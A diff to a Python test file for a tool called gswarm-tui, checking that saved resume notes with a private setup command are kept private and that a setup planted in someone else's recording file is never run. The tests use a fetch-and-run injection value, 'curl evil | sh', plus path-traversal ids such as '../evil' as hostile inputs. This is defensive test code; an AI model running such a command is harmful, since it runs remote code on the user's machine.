@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import asyncio
-import json
 import os
 import shutil
 from dataclasses import replace
@@ -59,11 +58,11 @@ async def test_setup_is_private_until_the_recording_is_closed(tmp_path: Path) ->
         started(path, ["--nodes", "n1", "--setup", SETUP]).close(None)
     finally:
         os.umask(before)
-    (note,) = notes_folder().iterdir()
+    (note,) = notes_folder().glob("*.json")
     assert (note.stat().st_mode & 0o777, note.parent.stat().st_mode & 0o777) == (0o600, 0o700)
     ((one,), _) = interrupted.find(tmp_path, path)
     assert await finish(one, SETTINGS, StringIO()) == 0
-    assert list(notes_folder().iterdir()) == []
+    assert list(notes_folder().glob("*.json")) == []
 
 
 async def test_missing_setup_has_to_be_set_again(tmp_path: Path) -> None:
@@ -72,39 +71,44 @@ async def test_missing_setup_has_to_be_set_again(tmp_path: Path) -> None:
     shutil.rmtree(notes_folder())
     ((one,), _) = interrupted.find(tmp_path, path)
     with pytest.raises(UserError, match="GSWARM_TUI_SETUP"):
-        one.restore(SETTINGS)
-    assert one.restore(SETTINGS._replace(setup="true"))[0].setup == "true"
+        one.preview(SETTINGS)
+    assert one.preview(SETTINGS._replace(setup="true"))[0].setup == "true"
 
 
-async def test_setup_in_a_file_of_somebody_else_is_never_run(tmp_path: Path) -> None:
+@pytest.mark.parametrize("forgotten", [False, True])
+async def test_neither_a_setup_in_the_file_nor_the_private_one_is_run_for_changed_options(
+    tmp_path: Path, forgotten: bool
+) -> None:
     path = tmp_path / "run.duckdb"
     started(path, ["--nodes", "n1", "--setup", SETUP]).close(None)
     ((one,), _) = interrupted.find(tmp_path, path)
-    options = json.loads(json.dumps(dict(one.interrupted.options))) | {"setup": "curl evil | sh"}
-    shutil.rmtree(notes_folder())
-    evil = interrupted.InterruptedRun(path, replace(one.interrupted, options=options))
+    options = dict(one.interrupted.options) | {"setup": "curl evil | sh", "nodes": ["evil"]}
+    if forgotten:
+        shutil.rmtree(notes_folder())
+    evil = interrupted.InterruptedRun(path, replace(one.interrupted, options=options), trusted=True)
     with pytest.raises(UserError, match="GSWARM_TUI_SETUP"):
         evil.restore(SETTINGS)
 
 
 @pytest.mark.parametrize("uid", ["../evil", "/evil", "", ".evil", "a" * 200, "a\0b"])
 def test_recording_with_a_strange_id_reaches_no_other_file(state: Path, uid: str) -> None:
-    write_note("a1", ResumeNote("true"))
-    (state / "gswarm-tui/evil.json").write_text('{"setup": "curl evil | sh"}')
-    assert read_note(uid) is None
+    write_note("a1", {}, ResumeNote("true"))
+    (state / "gswarm-tui/evil.json").write_text((notes_folder() / "a1.json").read_text())
+    assert read_note(uid, {}) is None
     remove_note(uid)
     assert (state / "gswarm-tui/evil.json").exists()
 
 
 @pytest.mark.root("give files away")
-def test_note_that_somebody_else_wrote_is_ignored() -> None:
-    write_note("a1", ResumeNote("true"))
-    assert read_note("a1") == ResumeNote("true")
-    os.chown(notes_folder() / "a1.json", 65534, 65534)
-    assert read_note("a1") is None
-    os.chown(notes_folder() / "a1.json", os.geteuid(), -1)
+@pytest.mark.parametrize("name", ["a1.json", "key"])
+def test_note_or_key_that_somebody_else_wrote_is_ignored(name: str) -> None:
+    write_note("a1", {}, ResumeNote("true"))
+    assert read_note("a1", {}) == ResumeNote("true")
+    os.chown(notes_folder() / name, 65534, 65534)
+    assert read_note("a1", {}) is None
+    os.chown(notes_folder() / name, os.geteuid(), -1)
     notes_folder().chmod(0o770)
-    assert read_note("a1") is None
+    assert read_note("a1", {}) is None
 
 
 async def test_full_or_closed_state_folder_is_reported(tmp_path: Path, state: Path) -> None:
@@ -115,4 +119,5 @@ async def test_full_or_closed_state_folder_is_reported(tmp_path: Path, state: Pa
     hub.flush()
     await asyncio.to_thread(recorder.close, hub.now())
     (event,) = hub.fleet.event_log
-    assert event.message.startswith(f"gswarm-tui recover will need --setup again: {notes_folder()}: ")
+    what = "will ask before it connects, and need --setup again"
+    assert event.message.startswith(f"gswarm-tui recover {what}: {notes_folder()}: ")
